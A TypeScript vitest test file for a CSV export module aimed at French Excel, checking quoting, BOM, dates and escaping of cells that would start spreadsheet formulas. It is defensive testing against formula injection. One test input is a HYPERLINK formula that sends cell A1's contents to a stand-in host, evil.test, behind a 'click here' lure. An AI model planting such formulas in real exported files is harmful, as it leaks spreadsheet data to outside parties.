import { parse } from 'csv-parse/sync';
import { describe, expect, it, test } from 'vitest';
import { csvDay, csvHead, csvLine } from './csv.server.ts';

/** As a French Excel opens it. */
const french = (text: string) => parse(text, { delimiter: ';', bom: true, relax_column_count: true });

/** As a spreadsheet that splits at this sign, whatever is between quotes. */
const split = (text: string, sign: string | RegExp) =>
  text
    .replace('\ufeff', '')
    .split(/\r\n|[\r\n]/)
    .flatMap((line) => line.split(sign));

const formula = /^[ "']*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/;
const apostrophe = /^[ "]*'/;

describe('a line of a CSV file', () => {
  it('is read back by a French Excel, cell by cell', () => {
    const cells = ['Zoé', 'a;b', 'dit « "oui" »', 'deux\nlignes', 'a, b', null, 12, 1.5, ' bords '];
    expect(french(`${csvHead(['A', 'B'])}${csvLine(cells)}`)).toEqual([
      ['A', 'B'],
      ['Zoé', 'a;b', 'dit « "oui" »', 'deux\nlignes', 'a, b', '', '12', '1,5', ' bords '],
    ]);
    expect(csvHead(['A'])).toBe('\ufeffA\r\n');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+33612345678', "'+33612345678"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tA', "'\tA"],
    ['\rA', "'\rA"],
    [' =1', " '=1"],
    ['\uff1d1', "'\uff1d1"],
    ['06 12 34 56 78', '06 12 34 56 78'],
    ['T3 - 62 m² = bien', 'T3 - 62 m² = bien'],
    [
      'Bonjour;=HYPERLINK("http://evil.test/?"&A1;"Cliquez ici…"); merci',
      'Bonjour;\'=HYPERLINK("http://evil.test/?"&A1;"Cliquez ici…"); merci',
    ],
    ['a,=1', "a,'=1"],
    ['a\t=1', "a\t'=1"],
    ['a\n=1\r\n@b\r+c', "a\n'=1\r\n'@b\r'+c"],
    ['a; "=1', 'a; "\'=1'],
    ["a;'=1", "a;''=1"],
  ])('%j is a text, and readable', (given, shown) => {
    expect(french(csvLine([given]))[0]).toEqual([shown]);
  });

  const hostile = ['', ' ', '"', "'", '; ', ', "'].flatMap((before) =>
    ['=', '+', '-', '@', '\uff1d'].flatMap((sign) =>
      [';', ',', '\t', '\n', '\r', '\r\n', ''].map((after) => `x${after}${before}${sign}1+1${after}${sign}2`),
    ),
  );
  test.each([[';'], [','], ['\t'], [/[;,\t]/]])(
    'no cell of it begins a formula where one splits at %s',
    (sign) => {
      const cells = hostile.flatMap((text) => split(csvLine([text, text, 'z']), sign));
      expect(cells.length).toBeGreaterThan(hostile.length);
      expect(cells.filter((cell) => formula.test(cell) && !apostrophe.test(cell))).toEqual([]);
    },
  );
});

test('a day is written as people write it', () => {
  expect([csvDay('2026-11-21'), csvDay(null)]).toEqual(['21/11/2026', null]);
});
